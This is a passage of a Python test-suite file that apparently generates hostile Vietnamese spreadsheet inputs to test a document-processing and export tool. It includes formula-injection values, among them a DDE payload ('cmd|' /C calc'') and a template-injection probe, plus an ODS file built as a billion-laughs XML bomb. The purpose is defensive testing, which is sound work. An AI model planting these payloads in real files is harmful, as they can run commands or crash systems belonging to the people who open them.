        ws = wb["Thông tin"]
        for row in ws.iter_rows(min_col=1, max_col=3):
            if row[0].value == key:
                row[2].value, row[2].data_type = text, "s"
                return
        raise LookupError(key)
    return edit_book(src, tmp, edit)


@case("chèn công thức", check=(0, "{name}"), recalc=(0, "{name}"), export=(0, "docx"))
def injection_in_signer_name(tmp, b):
    return set_info(b.clean, tmp, "nguoi_ky", "=HYPERLINK(\"http://example.invalid\",\"Nguyễn Văn A\")")


@case("chèn công thức", check=(0, "{name}"), recalc=(0, "{name}"), export=(0, "docx"))
def injection_in_abstract(tmp, b):
    return set_info(b.clean, tmp, "trich_yeu", "@SUM(1)+cmd|' /C calc'!A0 {{ 7*7 }}")


injection_in_signer_name.injected = "=HYPERLINK(\"http://example.invalid\",\"Nguyễn Văn A\")"
injection_in_abstract.injected = "@SUM(1)+cmd|' /C calc'!A0 {{ 7*7 }}"


@case("trang tính", check=(0, "{name}"), recalc=(0, "{name}"), export=(0, "docx"))
def sheet_protected_with_a_password(tmp, b):
    def edit(wb):
        ws = wb[SECTOR]
        ws.protection.sheet = True
        ws.protection.password = "matkhau"
    return edit_book(b.clean, tmp, edit)


@case("gói độc hại", check=(2, "{name}", "DTD"), export=(2, "{name}"))
def ods_with_billion_laughs(tmp, b):
    content = with_doctype(b'<?xml version="1.0" encoding="UTF-8"?><office:document-content '
                           b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">&lol9;'
                           b"</office:document-content>", LAUGHS)
    return write_zip(tmp / "tiep_la.ods", {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                                           "content.xml": content})


def summary() -> dict[str, int]:
    out: dict[str, int] = {}
    for c in CASES:
        out[c.klass] = out.get(c.klass, 0) + 1
    return out
